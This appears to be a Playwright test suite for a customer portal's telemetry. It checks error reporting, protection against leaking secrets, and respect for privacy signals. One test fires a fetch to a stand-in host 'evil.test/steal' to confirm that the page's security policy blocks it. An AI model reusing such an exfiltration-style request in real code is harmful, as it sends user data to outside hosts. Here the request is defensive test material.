import { fixtureSecrets } from '../builders/secrets.ts'
import { findLeaks } from '../leaks/find-leaks.ts'
import { makeCode } from './support/activation.ts'
import type { RunningCollector } from './support/collector.ts'
import { arriveAtOrders, demo, signIn } from './support/customer.ts'
import { screenOf } from './support/parts.ts'
import { askedBy, expect, idle, reporter, test } from './support/portal-with-collector.ts'

const namesOf = (collector: RunningCollector) => collector.events().map(({ name }) => name)

test.describe('Telemetry', () => {
  test.beforeEach(({ collector }) => collector.clear())

  test('is loaded behind everything else, and tells how fast the page was when that is left', async ({
    page,
    collector,
  }) => {
    await page.goto('/sign-in')
    const script = await page.waitForResponse(reporter)
    await script.finished()
    const order = await page.evaluate(() => {
      const [navigation] = performance.getEntriesByType('navigation')
      const late = performance.getEntriesByType('resource').find(({ name }) => name.includes('/assets/reporter-'))
      return { loaded: Object(navigation).loadEventEnd, asked: late?.startTime ?? 0 }
    })
    expect(order.asked).toBeGreaterThanOrEqual(order.loaded)
    await page.getByLabel('Email').fill('ada@compass.test')
    await page.goto('about:blank')
    await expect.poll(() => namesOf(collector)).toContain('browser.web_vital')
    await expect.poll(() => collector.bytes()).toContain('"LCP"')
    const vital = collector.events().find(({ name }) => name === 'browser.web_vital')
    expect(vital?.text).toContain('{"key":"url.template","value":{"stringValue":"/sign-in"}}')
    expect(vital?.text).toContain('{"key":"browser.language","value":{"stringValue":"en-GB"}}')
    expect(collector.bytes()).toContain('{"key":"deployment.environment.name","value":{"stringValue":"test"}}')
    expect(collector.bytes()).toContain('{"key":"portal.form_factor","value":{"stringValue":"computer"}}')
    expect(collector.bytes()).toContain('{"key":"portal.first_visit","value":{"boolValue":true}}')
  })

  test('tells a call that has failed, by its name in the contract', async ({ page, collector }) => {
    await page.route('**/shop/purchase', (route) =>
      route.fulfill({
        status: 503,
        headers: { 'access-control-allow-origin': '*' },
        json: { status: 503, type: 'server.error', message: `no orders of ${demo.username}` },
      }),
    )
    await page.goto('/sign-in')
    await signIn(page)
    await expect.poll(() => namesOf(collector)).toContain('portal.call.failed')
    const failed = collector.events().find(({ name }) => name === 'portal.call.failed')
    expect(failed?.text).toContain('"shop GET /purchase"')
    expect(failed?.text).toContain('{"intValue":503}')
    expect(failed?.text).toContain('"server.error"')
  })

  test('tells nothing of a wrong password', async ({ page, collector }) => {
    await page.goto('/sign-in')
    await signIn(page, { ...demo, password: 'wrong horse' })
    await expect(page.getByText('Wrong email or password')).toBeVisible()
    await page.waitForResponse(/\/v1\/logs/)
    expect(namesOf(collector)).not.toContain('portal.call.failed')
  })

  test.describe('where something breaks', () => {
    test.use({ expectedProblems: [/./] })

    test('tells the script that is gone', async ({ page, collector }) => {
      await page.route(screenOf('orders'), (route) => route.fulfill({ status: 404, body: 'Not found' }))
      await page.goto('/sign-in')
      await signIn(page)
      await expect(page.getByRole('heading', { name: 'This page could not be loaded' })).toBeVisible()
      await expect.poll(() => collector.bytes()).toMatch(/portal\.script\.lost.*orders-screen-[A-Z0-9]{8}\.js/)
    })

    test('tells a start that has failed, of a configuration that is wrong elsewhere', async ({ page, collector }) => {
      await page.route('**/config.json', async (route) => {
        const answer = await route.fetch()
        await route.fulfill({ json: { ...(await answer.json()), clientId: '' } })
      })
      await page.goto('/sign-in')
      await expect.poll(() => collector.bytes()).toMatch(/portal\.start\.failed.*"configuration"/)
    })

    test('tells that the app could not be loaded', async ({ page, collector }) => {
      await page.route(/\/assets\/app-/, (route) => route.fulfill({ status: 404, body: 'Not found' }))
      await page.goto('/sign-in')
      await expect.poll(() => collector.bytes()).toMatch(/portal\.start\.failed.*"app"/)
    })

    test('tells where a screen has thrown, and not what it said of a customer', async ({ page, collector }) => {
      await page.route(screenOf('orders'), async (route) => {
        const answer = await route.fetch()
        const fault = `setTimeout(() => { null["${demo.username}"] })`
        await route.fulfill({ response: answer, body: `${await answer.text()};${fault}` })
      })
      await page.goto('/sign-in')
      await signIn(page)
      await expect.poll(() => namesOf(collector)).toContain('exception')
      const { text = '' } = collector.events().find(({ name }) => name === 'exception') ?? {}
      expect(text).toContain('"TypeError"')
      expect(text).toContain('Cannot read properties of null (reading …')
      expect(text).toMatch(/orders-screen-[A-Z0-9]{8}\.js:\d+:\d+/)
      expect(text).not.toContain(demo.username)
    })

    test('tells what the policy of the page has blocked', async ({ page, collector }) => {
      await page.goto('/sign-in')
      await page.evaluate(() => fetch('https://evil.test/steal?secret').catch(() => undefined))
      await expect.poll(() => collector.bytes()).toMatch(/portal\.policy\.violated.*connect-src.*https:\/\/evil\.test"/)
      expect(collector.bytes()).not.toContain('steal')
    })
  })

  test('says nothing of who: no secret of a customer’s day is in any byte that leaves', async ({
    page,
    portal,
    collector,
  }) => {
    const code = await makeCode(portal)
    const allowed = { 'access-control-allow-origin': portal.url, 'access-control-allow-credentials': 'true' }
    const failing = { status: 500, headers: allowed, body: `gone, ${demo.username}` }
    await page.route('**/subscription/**', (route) => route.fulfill(failing))
    await page.route('**/activation-code/**', (route) => route.fulfill(failing))
    await page.goto('/activate-license-key')
    await page.getByLabel('Activation code').fill(code)
    await page.getByRole('button', { name: 'Continue' }).click()
    await expect(page.getByRole('alert').first()).toBeVisible()
    await expect.poll(() => namesOf(collector)).toContain('portal.call.failed')
    await arriveAtOrders(page)
    // A few orders show the search where the address asks for it.
    await page.goto('/?search=maps')
    await page.getByRole('searchbox').fill('lifetime maps of mine')
    await page.goto('/order/1004210')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const stored = await page.evaluate(() => Object.values({ ...localStorage }).join('\n'))
    const tokens = stored.match(/[\w-]{30,}/g) ?? []
    expect(tokens.length).toBeGreaterThan(0)
    await expect.poll(() => collector.bytes()).toContain('/order/:id')
    await page.goto('about:blank')

    const secrets = [...fixtureSecrets, ...tokens, code, '1004210', 'lifetime maps of mine', 'cookie', 'referer']
    expect(findLeaks([collector.bytes()], secrets, 1)).toEqual([])
  })

  test('is not loaded where the address has a token', async ({ page, collector }) => {
    const asked = askedBy(page)
    for (const path of ['/reset-password/a-token-of-an-e-mail', '/activate-license-key?code=CARS-2026-DEMO-0001']) {
      await page.goto(path)
      await idle(page)
    }
    expect(asked.filter((address) => reporter.test(address))).toEqual([])
    expect(collector.bytes()).toBe('')
  })

  for (const [wish, value] of [
    ['globalPrivacyControl', true],
    ['doNotTrack', '1'],
  ] as const)
    test(`is not loaded where the browser asks for privacy: ${wish}`, async ({ page, collector }) => {
      await page.addInitScript(
        ([name, said]) => Object.defineProperty(Navigator.prototype, name, { get: () => said, configurable: true }),
        [wish, value] as const,
      )
      const asked = askedBy(page)
      await page.goto('/sign-in')
      await idle(page)
      expect(asked.filter((address) => reporter.test(address))).toEqual([])
      expect(collector.bytes()).toBe('')
    })
})
